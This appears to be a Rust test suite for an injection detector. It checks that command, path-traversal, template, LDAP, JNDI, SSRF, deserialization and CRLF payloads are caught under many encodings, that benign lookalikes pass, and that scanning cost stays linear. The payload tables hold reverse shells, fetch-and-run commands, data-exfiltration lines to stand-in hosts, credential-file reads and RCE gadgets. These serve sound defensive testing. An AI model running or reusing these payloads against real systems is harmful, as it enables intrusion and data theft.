//! The evasion table of the classes that live on shells, files, templates, directories, lookups, networks, object
//! streams and heads: each technique of hiding against each class, and values that look alike and are none.
//!
//! All strings are this project's own.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use super::{Classes, Context, DEFAULT_THRESHOLD, Detectors, Scratch};
use crate::inspect::leaf::{HostSyntax, Leaf, OffsetMap, Path, Piece, Root};
use crate::inspect::{Category, Direction, Findings, PartId};
use crate::span::Span;

/// The best score of `class` for `value` under the name `name`.
fn score(detectors: &Detectors, class: Category, (name, value): (&str, &[u8])) -> u8 {
    let mut path = Path::new(Root::Json);
    path.push_name(name.as_bytes());
    let map = OffsetMap::verbatim(0);
    let leaf = Leaf {
        path: &path,
        host: HostSyntax::JsonString,
        span: Span::new(0, value.len() as u64),
        bytes: value,
        map: &map,
        piece: Piece::Whole,
    };
    let context = Context {
        direction: Direction::Request,
        part: PartId::BODY,
        classes: Classes::all(),
    };
    let mut findings = Findings::default();
    detectors.inspect(&leaf, &context, &mut Scratch::new(), &mut findings);
    findings
        .list
        .iter()
        .filter(|finding| finding.category == class)
        .map(|finding| finding.score)
        .max()
        .unwrap_or(0)
}

fn percent_all(text: &[u8]) -> Vec<u8> {
    text.iter()
        .flat_map(|byte| format!("%{byte:02X}").into_bytes())
        .collect()
}

fn percent_signs(text: &[u8]) -> Vec<u8> {
    text.iter()
        .flat_map(|byte| {
            if byte.is_ascii_alphanumeric() {
                vec![*byte]
            } else {
                format!("%{byte:02x}").into_bytes()
            }
        })
        .collect()
}

/// The techniques: name, and what becomes of a payload.
type Technique = (&'static str, fn(&[u8]) -> Vec<u8>);

const TECHNIQUES: &[Technique] = &[
    ("as it is", <[u8]>::to_vec),
    ("percent", percent_signs),
    ("percent, all", percent_all),
    ("percent twice", |text| percent_signs(&percent_signs(text))),
    ("base64", |text| STANDARD.encode(text).into_bytes()),
    ("base64url", |text| {
        URL_SAFE_NO_PAD.encode(text).into_bytes()
    }),
    ("base64 of percent", |text| {
        STANDARD.encode(percent_signs(text)).into_bytes()
    }),
    ("escapes", |text| {
        text.iter()
            .flat_map(|byte| format!("\\u{:04x}", byte).into_bytes())
            .collect()
    }),
    ("hex escapes", |text| {
        text.iter()
            .flat_map(|byte| format!("\\x{byte:02x}").into_bytes())
            .collect()
    }),
    ("decimal references", |text| {
        text.iter()
            .flat_map(|byte| format!("&#{byte};").into_bytes())
            .collect()
    }),
    ("padded references", |text| {
        text.iter()
            .flat_map(|byte| format!("&#x00{byte:02x};").into_bytes())
            .collect()
    }),
    ("nested json", |text| {
        let text = String::from_utf8_lossy(text);
        serde_json::json!({"a": [1, {"note": text}]})
            .to_string()
            .into_bytes()
    }),
    ("hex", |text| {
        text.iter()
            .flat_map(|byte| format!("{byte:02x}").into_bytes())
            .collect()
    }),
    ("blanks around", |text| [b"  ", text, b" "].concat()),
];

/// One payload of each class that is pure ASCII and survives every technique.
const PAYLOADS: &[(Category, &str)] = &[
    (Category::Cmdi, "x; wget http://198.51.100.9/p.sh -O- | sh"),
    (Category::Cmdi, "'|| tail -n2 /etc/shadow #"),
    (Category::PathTraversal, "../../../../../../../etc/shadow"),
    (
        Category::PathTraversal,
        "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    ),
    (Category::Ssti, "{{ 191*7 }}{{ ''.__class__.__mro__ }}"),
    (
        Category::Ssti,
        "${T(java.lang.Runtime).getRuntime().exec('ls')}",
    ),
    (Category::Ldapi, "bob)(|(userPassword=*))"),
    (
        Category::Ldapi,
        "zoe' or starts-with(name(/*[1]),'a') or 'q'='",
    ),
    (Category::Jndi, "${${lower:J}ndi:${lower:l}dap://x.test/q}"),
    (Category::Ssrf, "http://169.254.169.254/latest/user-data"),
    (Category::Ssrf, "gopher://127.0.0.1:25/_HELO%20x"),
    (
        Category::Deser,
        "O:11:\"CacheWriter\":1:{s:4:\"path\";s:5:\"/tmp/\";}",
    ),
    (
        Category::Deser,
        "!!python/object/apply:subprocess.call [[\"ls\"]]",
    ),
    (Category::Crlf, "en\r\nSet-Cookie: role=admin"),
];

#[test]
fn every_technique_is_seen_through_for_every_class() {
    let detectors = Detectors::new();
    let mut missed = Vec::new();
    for (class, payload) in PAYLOADS {
        for (technique, apply) in TECHNIQUES {
            let value = apply(payload.as_bytes());
            let score = score(&detectors, *class, ("note", &value));
            if score < DEFAULT_THRESHOLD {
                missed.push(format!("{class}: {technique}: {payload}: {score}"));
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{}\n{} missed",
        missed.join("\n"),
        missed.len()
    );
}

/// Payloads with the tricks of their own language.
const ATTACKS: &[(Category, &[&str])] = &[
    (
        Category::Cmdi,
        &[
            "127.0.0.1; uname -r",
            "8.8.8.8 && cat /etc/issue",
            "x | nslookup q.test",
            "`id`",
            "$(whoami)",
            "a$(sleep 9)b",
            "& ver &",
            "|| dir c:\\ ||",
            "\"; tac /etc/group; echo \"",
            "';sleep 12;'",
            "x\nid\n",
            "%0Auname",
            "c'a't /etc/pass'w'd",
            "l\"\"s -la",
            "who$@ami",
            "w\\hoa\\mi",
            "/???/c?t /???/p??s??",
            "{ls,-la,/}",
            "cat$IFS/etc/passwd",
            "cat${IFS}/etc/passwd",
            "cat</etc/passwd",
            "X=$'cat\\x20/etc/passwd'&&$X",
            "bash -i >& /dev/tcp/203.0.113.4/4242 0>&1",
            "nc -e /bin/bash 203.0.113.4 4242",
            "; php -r 'system(\"id\");'",
            "| python3 -c 'import os;os.system(\"id\")'",
            "&& powershell -nop -w hidden -enc SQBFAFgA",
            "; ruby -rsocket -e 'exit'",
            "a; ping -c 4 10.0.0.1",
            "| type c:\\boot.ini",
            "; rm -rf /var/www",
            "() { ignored; }; /usr/bin/env",
            "$(curl -d @/etc/passwd http://x.test)",
            "; echo c2xlZXAgNQ== | base64 -d | sh",
            "w^h^o^a^m^i",
            "& p^ing 127.0.0.1",
            "cmd /c dir",
            "cmd.exe /c whoami",
            "; ${PATH:0:1}bin${PATH:0:1}ls",
            "|/bin/ls -al",
            "; /usr/bin/id",
            "a&&nslookup`whoami`.x.test",
            "';waitfor /t 9 x;'",
            "; wget${IFS}http://x.test/s",
            "1;sleep${IFS}9",
            "$(`id`)",
            "| net user /add bob",
            "; killall httpd",
            "; cat config.php",
            "&& systeminfo",
            "| tasklist /v",
            "x' && sleep 5 && '",
            "x);whoami;(",
            "\";uname -a;\"",
            "; python -c \"__import__('os').system('id')\"",
            "; env",
            "|set",
            "&ipconfig /all&",
            "; nc 203.0.113.4 9001 -e sh",
            "; curl http://x.test/$(hostname)",
            "<!--#exec cmd=\"ls /\" -->",
            "1 | wget -qO- http://x.test",
            "; awk 'BEGIN {system(\"id\")}'",
            "; find / -perm -4000",
            "; chmod 777 /tmp/x",
            "; perl -MIO -e 'exit'",
            "wmic process call create \"calc.exe\"",
            "; id > /tmp/o",
            "`sleep 5`",
            "ls -la /etc; id",
            "; whoami #",
            "; $(echo d2hvYW1p|base64 -d)",
            "cat /proc/self/environ",
            "rev<<<'imaohw'|sh",
            "x; getent hosts x.test",
            "$(printf 'di'|rev)",
            "test;cat /e*c/p*s*d",
            "sleep 5; curl x.test",
            "a|cat${IFS}/etc/hosts",
            "<!--#include virtual=\"/proc/version\" -->",
            "<!--#echo var=\"DATE_GMT\" -->",
            "; netstat -an",
            "| ls -la",
            "def && id && ",
            "x;busybox wget x.test/s -O-|sh",
            "y | sudo cat /etc/shadow",
            "& echo %USERNAME% &",
            "|| ping -n 10 127.0.0.1 ||",
            "$(cat /flag)",
            "a;/???/b??/w??am?",
            "; exec 5<>/dev/tcp/198.51.100.7/80",
            "`/bin/uname -a`",
            "|powershell Get-Process",
            "; node -e \"require('child_process')\"",
            "& start calc.exe",
            "| findstr password c:\\x.txt",
            "; lua -e 'os.execute()'",
            "; telnet 198.51.100.7 23",
            "|| dig x.test ||",
            "0; tar cf /tmp/a /etc/ssl",
            "; socat tcp:198.51.100.7:1 exec:sh",
            "; while :; do id; done",
            "; if true; then whoami; fi",
            "${IFS}id;",
            "%26%26%20id",
            "; printenv",
            "; cd /tmp; ls",
            "; touch /tmp/x",
            "q\n/usr/bin/env",
            "a & timeout 9 &",
            "x; hostname",
            "x`hostname`y",
            "a | base64 /etc/passwd",
            "certutil -urlcache -split -f http://x.test/a.exe a.exe",
            "IEX(New-Object Net.WebClient).DownloadString('http://x.test/a')",
        ],
    ),
    (
        Category::PathTraversal,
        &[
            "../../../../etc/hosts",
            "/etc/passwd",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "..%252f..%252f..%252fwindows%252fwin.ini",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow",
            "..;/..;/..;/manager/html",
            "/var/log/auth.log",
            "/proc/self/environ",
            "/proc/self/cmdline",
            "C:\\Windows\\win.ini",
            "C:/boot.ini",
            "php://filter/read=convert.base64-encode/resource=index.php",
            "php://input",
            "expect://id",
            "zip://upload.zip#shell.php",
            "phar://upload.jpg/x",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
            "../../../../../../etc/passwd%00.png",
            "/../../../../boot.ini",
            "..\\..\\..\\..\\boot.ini",
            "..%5c..%5c..%5cwindows%5cwin.ini",
            "/var/www/../../etc/passwd",
            "static/../../../../../etc/passwd",
            "\\\\203.0.113.4\\share\\x",
            "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "..%c0%af..%c0%af..%c0%afetc/passwd",
            "%252e%252e%255c%252e%252e%255cwin.ini",
            "/./././././etc/passwd",
            "..//..//..//etc//passwd",
            "....\\/....\\/....\\/etc/passwd",
            "/%5C../%5C../%5C../etc/passwd",
            "../../WEB-INF/web.xml",
            "/WEB-INF/web.xml",
            "../../../../root/.ssh/id_rsa",
            "/home/deploy/.ssh/id_rsa",
            "..%u2215..%u2215..%u2215etc/passwd",
            "../../../../../../../../../../windows/system32/config/sam",
            "..\u{ff0f}..\u{ff0f}..\u{ff0f}etc/passwd",
            "/etc/nginx/sites-enabled/default",
            "/usr/local/apache2/conf/httpd.conf",
            "c:\\inetpub\\logs\\logfiles",
            "../../.env",
            "../../../wp-config.php",
            "/opt/tomcat/conf/tomcat-users.xml",
            "/var/lib/mysql/mysql/user.MYD",
            "php://filter/convert.iconv.utf-8.utf-16/resource=x",
        ],
    ),
    (
        Category::Ssti,
        &[
            "{{7*7}}",
            "${8*8}",
            "#{9*9}",
            "<%= 7*7 %>",
            "*{7*7}",
            "@(2+3)",
            "{{5*'5'}}",
            "${{3*3}}",
            "[[${7*7}]]",
            "{7*7}",
            "{{config}}",
            "{{ config.items() }}",
            "{{self.__init__.__globals__}}",
            "{{request.application.__globals__.__builtins__.open('/etc/hosts').read()}}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{lipsum.__globals__['os'].popen('ls').read()}}",
            "{% import os %}{{ os.popen('id').read() }}",
            "${\"freemarker.template.utility.Execute\"?new()(\"ls\")}",
            "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"ls\")}",
            "#set($r=$x.class.forName('java.lang.Runtime'))",
            "{{_self.env.registerUndefinedFilterCallback('system')}}{{_self.env.getFilter('ls')}}",
            "{{['ls']|filter('passthru')}}",
            "{{['a','b']|map('exec')|join}}",
            "{system('ls')}",
            "{php}phpinfo();{/php}",
            "{$smarty.version}",
            "<%= system('ls') %>",
            "<%= `ls` %>",
            "<%= File.read('/etc/passwd') %>",
            "#{ `ls` }",
            "#{IO.popen('ls').read}",
            "{{constructor.constructor('return process')()}}",
            "{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}",
            "${T(java.lang.System).getenv()}",
            "*{T(java.lang.Runtime).getRuntime().exec('ls')}",
            "__${T(java.lang.Runtime).getRuntime().exec('ls')}__::.x",
            "%{(#a=@java.lang.Runtime@getRuntime()).exec('ls')}",
            "${pageContext.request.serverName}",
            "${session.getAttribute('x')}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
            "{{ ''|attr('__class__') }}",
            "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
            "{{ [].__class__.__base__ }}",
            "@{System.Diagnostics.Process.Start(\"cmd\")}",
            "@System.IO.File.ReadAllText(\"web.config\")",
            "{{7*7}}[[5*5]]",
            "${self.module.cache.util.os.system('id')}",
            "<% import os; x=os.popen('id').read() %>${x}",
            "{{dump(app)}}",
            "{{app.request.server.all}}",
            "{% debug %}",
            "{{ settings.SECRET_KEY }}",
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('ls')\")()}}",
            "a{{9*9}}b",
            "#{T(java.lang.Math).random()}",
            "{% include '/etc/passwd' %}",
            "{{ include('/etc/passwd') }}",
            "{{ source('/etc/passwd') }}",
            "${7*7}%{7*7}",
            "{{'7'*7}}",
        ],
    ),
    (
        Category::Ldapi,
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "admin)(!(&(1=0",
            "*)(objectClass=*",
            "x*))%00",
            "*)(|(mail=*)",
            "bob)(|(password=*))",
            "(|(cn=a*)(cn=b*))",
            "*))(|(objectclass=*)",
            "' or '1'='1' or count(/*)=1 or '",
            "'] | //user/*[contains(*,'",
            "' or position()=1 or '",
            "') or string-length(name(/*[1]))=4 or ('",
            "x'] | //password | //x['",
            "' and count(/child::node())=1 and '1'='1",
            "\" or //user/password[contains(.,'a')] or \"",
            "*()|&'",
            "admin)(userPassword:2.5.13.18:=\\64",
            "(&(objectClass=user)(memberOf=*)(sAMAccountName=*))",
            "*)(cn=*))(|(cn=*",
            "admin*)((|userPassword=*)",
            "*)(&",
            "*))%00",
            "zoe)(sn=*))%00",
            "')] | //password%00//",
            "x' or name()='password' or 'x'='z",
        ],
    ),
    (
        Category::Jndi,
        &[
            "${jndi:ldap://x.test/a}",
            "${jndi:rmi://x.test/a}",
            "${jndi:dns://x.test}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x.test/a}",
            "${${env:A:-j}ndi:ldaps://x.test/a}",
            "${jn${lower:d}i:l${upper:d}ap://x.test/a}",
            "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://x.test}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.test/a}",
            "${jnd\u{131}:ldap://x.test}",
            "${script:javascript:1}",
            "${dns:address:x.test}",
            "${url:UTF-8:http://x.test/}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.test}",
            "Mozilla/5.0 ${jndi:ldap://x.test/ua}",
            "${jndi:ldap://127.0.0.1#x.test/a}",
            "${${lower:jndi}:${lower:rmi}://x.test/p}",
            "${jndi:iiop://x.test}",
            "${file:UTF-8:/etc/passwd}",
            "$%7Bjndi:ldap://x.test%7D",
            "&dollar;&lcub;jndi&colon;ldap://x.test/a}",
            "${jndi:${env:B:-l}dap://x.test}",
            "${${base64:am5kaQ==}:ldap://x.test}",
            "\\u0024\\u007bjndi:ldap://x.test\\u007d",
            "${jnd${123%25ff:-${123%25ff:-i:}}ldap://x.test/a}",
            "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://x.test}",
        ],
    ),
    (
        Category::Ssrf,
        &[
            "http://127.0.0.1/",
            "http://127.0.0.1:8500/v1/agent/self",
            "http://localhost:22/",
            "http://2130706433/",
            "http://0177.0.0.1/",
            "http://0x7f.0x0.0x0.0x1/",
            "http://127.1/",
            "http://0/",
            "http://[::1]:80/",
            "http://[::ffff:10.0.0.1]/",
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/instance/",
            "http://100.100.100.200/latest/meta-data/",
            "gopher://10.0.0.5:6379/_INFO",
            "dict://localhost:11211/stat",
            "file:///etc/shadow",
            "ldap://127.0.0.1:389/dc=x",
            "http://10.0.0.5/admin",
            "http://192.168.1.1/",
            "http://10.0.0.1.nip.io/",
            "http://a.localtest.me/",
            "http://x@127.0.0.1/",
            "http://ok.test@169.254.169.254/",
            "http://ok.test#@10.1.1.1/",
            "http://①②⑦.⓪.⓪.①/",
            "http://127。0。0。1/",
            "http://3232235777/",
            "https://[fd00:ec2::254]/latest/",
            "jar:http://127.0.0.1!/",
            "http:\\\\127.0.0.1\\",
            "//169.254.169.254/latest/",
            "http://%31%36%39.254.169.254/",
            "netdoc:///etc/passwd",
            "tftp://10.1.1.1:69/x",
            "http://instance-data/latest/",
            "http://kubernetes.default.svc/api",
            "http://127.0.0.1:2375/containers/json",
            "http://[0:0:0:0:0:ffff:127.0.0.1]",
            "http://0251.0376.0251.0376/",
            "http://x.oastify.com/",
            "http://017700000001",
            "http://127.0.0.1%2f@x.test",
            "url=http://127.0.0.1:80",
        ],
    ),
    (
        Category::Deser,
        &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
            "aced0005737200116a6176612e7574696c2e486173684d6170",
            "O:6:\"Logger\":1:{s:4:\"file\";s:7:\"x.php\";}",
            "a:1:{i:0;O:4:\"Pwn1\":0:{}}",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.test/a\"}",
            "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.test/\"]]]]",
            "!!python/object/new:os.system [ls]",
            "!!python/name:os.system",
            "--- !ruby/object:Gem::Installer\ni: x",
            "{\"x\":\"_$$ND_FUNC$$_function(){require('child_process').exec('ls')}()\"}",
            "cos\nsystem\n(S'ls'\ntR.",
            "csubprocess\ncheck_output\n(S'ls'\ntR.",
            "cbuiltins\neval\n(Vprint(1)\ntR.",
            "<java class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"/></java>",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=",
            "O:+6:\"Logger\":0:{}",
            "C:11:\"ArrayObject\":0:{}",
            "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://x.test/s.xml\"]",
            "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQ==",
        ],
    ),
    (
        Category::Crlf,
        &[
            "x\r\nSet-Cookie: a=b",
            "%0d%0aSet-Cookie:%20a=b",
            "/home%0d%0aLocation:%20http://x.test",
            "x\nBcc: a@x.test",
            "x%0aX-Injected:%20yes",
            "en%0d%0a%0d%0a<script>alert(1)</script>",
            "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b",
            "a%250d%250aSet-Cookie:a=b",
            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>",
            "\u{560a}\u{560d}Location: //x.test",
            "%0d%0a%0d%0a",
            "subject\r\nCc: a@x.test, b@x.test",
            "x%0d%0aRefresh:%200;url=http://x.test",
            "%u000aSet-Cookie: a=b",
            "?lang=en%0D%0ASet-Cookie%3A%20a%3Db",
            "\r\nRCPT TO:<a@x.test>",
            "a\r\nTransfer-Encoding: chunked\r\n\r\n0",
            "x%0aLocation:%20/evil",
            "%23%0aSet-Cookie:a=b",
            "host\r\nX-Forwarded-Host: x.test",
            "%0d%0aheader: value",
            "a%0D%0AFoo:%20bar",
            "hi\r\n.\r\nDATA\r\nFrom: a@x.test",
            "in%E5%98%8A%E5%98%8DX-Test:%201",
        ],
    ),
];

#[test]
fn the_tricks_of_each_language_are_known() {
    let detectors = Detectors::new();
    let mut missed = Vec::new();
    for (class, attacks) in ATTACKS {
        for attack in *attacks {
            let score = score(&detectors, *class, ("note", attack.as_bytes()));
            if score < DEFAULT_THRESHOLD {
                missed.push(format!("{class}: {attack:?}: {score}"));
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{}\n{} missed",
        missed.join("\n"),
        missed.len()
    );
}

/// Values that look alike and are none.
const LOOKALIKES: &[&str] = &[
    "Tom & Jerry; the movie | part 2",
    "cat, dog; fish",
    "ls is short for list; see the manual",
    "id | name | price",
    "find us at 5; ping me later",
    "Use `git status` first",
    "make && make install",
    "npm run build && npm test",
    "rm -rf dist && mkdir dist",
    "node server.js",
    "Sleep well; dream on",
    "x > 5 && y < 3",
    "if a == b: return",
    "for each of us in (or out of) it",
    "price: $5; $(discount)",
    "Type: sedan; Set: 4",
    "Host & guest",
    "#!/bin/sh\nset -e\nmake\n",
    "curl the ribbon; tie the bow",
    "2 pipes || 3 valves",
    "C:\\Users\\ann\\Documents\\report.docx",
    "0 2 * * * /usr/local/bin/backup.sh",
    "https://github.com/a/b/pull/3?w=1&x=2",
    "name=Ann; id=5",
    "text/html; charset=utf-8",
    "a&&b||c",
    "Echo & the Bunnymen",
    "more; less; most",
    "top | bottom",
    "../lib/index.js",
    "../../package.json",
    "./src/../test",
    "../../../node_modules/x/index.js",
    "https://example.com/a/../b",
    "and/or; his/her",
    "...and so on/...",
    "file.tar.gz",
    "docs/etc/readme.md",
    "/api/v1/users",
    "/home/ann/projects",
    "\\d+\\.\\d+",
    "../images/a.png",
    "src/**/*.{ts,tsx}",
    "/usr/bin/node",
    "%20%20",
    "50% off/on",
    "..",
    "/dashboard/settings",
    "Hello {{name}}",
    "${user.name}",
    "${AWS::Region}",
    "${{ github.ref }}",
    "{{ t('welcome') }}",
    "<%= title %>",
    "{% if user %}Hi{% endif %}",
    "#{name}",
    "{0} of {1}",
    "{id}",
    "{a,b}",
    "f(x) = {2*x}",
    "{\"a\": 1}",
    "${HOME}/bin",
    "@(home)",
    "[[wiki link]]",
    "{{#each items}}{{this}}{{/each}}",
    "{{ .Values.image.tag | default \"latest\" }}",
    "${process.env.PORT}",
    "Total: ${amount * 2}",
    "*{color:red}*",
    "{{ count + 1 }}",
    "%{count} items",
    "cn=Ann,ou=Sales,dc=example,dc=com",
    "(see note 1)(ref 2)",
    "f(x)(y)",
    "rate: ***** (5/5)",
    "(a & b) | (c & d)",
    "x = (a=b)",
    "either 'this' or 'that'",
    "contains(nuts)",
    "a (b) c",
    "***important***",
    "2 * (3 + 4)",
    "name (optional)",
    "//comment",
    "ldap://ldap.example.com is our directory",
    "Log4j jndi lookup",
    "${env:HOME}",
    "${date:yyyy}",
    "${sys:user.dir}",
    "https://www.example.com/path?x=1",
    "http://example.com:8080/status",
    "http://localhost:3000",
    "https://192-168.example.com/",
    "mailto:ann@example.com",
    "ftp://ftp.example.org/pub",
    "redis://localhost:6379/0",
    "https://cdn.example.net/a.png",
    "127.0.0.1",
    "10.0.0.0/8",
    "https://api.internal-tools.example.com/x",
    "//cdn.example.net/x.js",
    "http://www.w3.org/2001/XMLSchema",
    "ssh://git@github.com/a/b",
    "urn:isbn:123",
    "https://user@example.com/",
    "1.2.3.4",
    "v1.2.3",
    "rO0 is a prefix",
    "!!important!!",
    "O: 5 items",
    "a:1",
    "java.lang.String",
    "System.String",
    "closure of the transformer factory",
    "import os",
    "C:8",
    "posix compliant",
    "!important",
    "class Foo extends Bar",
    "com.example.app.MainActivity",
    "org.apache.commons:commons-lang3:3.12",
    "Dear Ann,\n\nlocation: Cork\nhost: Bob\n\nBye",
    "line one\r\nline two",
    "a\nb\nc",
    "Monday: open\nTuesday: closed",
    "12 Main St\nCork\nIreland",
    "Subject to change\nFrom Monday on",
    "100%0",
    "Hello,\nstatus: fine",
    "Note:\n- a\n- b",
];

#[test]
fn lookalikes_are_let_through() {
    let detectors = Detectors::new();
    let classes = [
        Category::Cmdi,
        Category::PathTraversal,
        Category::Ssti,
        Category::Ldapi,
        Category::Jndi,
        Category::Ssrf,
        Category::Deser,
        Category::Crlf,
    ];
    let mut caught = Vec::new();
    for value in LOOKALIKES {
        for class in classes {
            for name in ["note", "url", "file", "q", "command"] {
                let score = score(&detectors, class, (name, value.as_bytes()));
                if score >= DEFAULT_THRESHOLD {
                    caught.push(format!("{class}: {name}={value:?}: {score}"));
                }
            }
        }
    }
    assert!(
        caught.is_empty(),
        "{}\n{} caught",
        caught.join("\n"),
        caught.len()
    );
}

/// Worst cases of each room: the unit that is repeated.
const WORST: &[&str] = &[
    ";id",
    "`",
    "$(",
    "()",
    "() {",
    "'",
    "\\",
    "{a,",
    "${x",
    "$ifs",
    "for %x in (",
    "if \"",
    "|if a==",
    "../",
    "..%2f",
    "%25",
    "%c0%ae",
    "a:/",
    "....",
    "{{",
    "{%",
    "${",
    "#{{{",
    "{7*",
    "<%=",
    "(a=",
    ")(",
    "(&",
    "(|(",
    "${${",
    "${a:-",
    "${lower:",
    "//",
    "a://",
    "http://1.1/",
    "http://[",
    "@@@://",
    "!!",
    "o:8:\"a",
    "o:1:",
    "!ruby/",
    "a.b.",
    "\n",
    "\r\na:",
    "%0d%0aset-cookie:a=",
    "x\n\n<",
    "&#x0a;",
    "cos\n",
    "/etc/",
    "\u{ff0e}",
    "?a=b&",
];

/// Nanoseconds that this thread has been on a processor: the machine is shared, its clock on the wall says little.
fn on_processor() -> Option<u64> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split_whitespace().next()?.parse().ok()
}

/// What `times` looks at `unit`, repeated to `length` bytes, cost.
fn cost(detectors: &Detectors, unit: &str, (length, times): (usize, u32)) -> Option<u64> {
    let value: Vec<u8> = unit.bytes().cycle().take(length).collect();
    let start = on_processor()?;
    for _ in 0..times {
        std::hint::black_box(score(detectors, Category::Cmdi, ("note", &value)));
    }
    Some(on_processor()?.saturating_sub(start))
}

#[test]
fn work_grows_with_the_value_and_not_faster() {
    let detectors = Detectors::new();
    let mut slow = Vec::new();
    for unit in WORST {
        // The same bytes in all: a quadratic room would take four times as long for the long value.
        let costs = (
            cost(&detectors, unit, (16 * 1024, 8)),
            cost(&detectors, unit, (64 * 1024, 2)),
        );
        let (Some(short), Some(long)) = costs else {
            eprintln!("skipped: no processor times here");
            return;
        };
        // The processor's time is told in steps of some milliseconds.
        if long > short * 5 / 2 + 16_000_000 {
            slow.push(format!("{unit:?}: {} -> {} us", short / 1000, long / 1000));
        }
    }
    assert!(slow.is_empty(), "{}", slow.join("\n"));
}
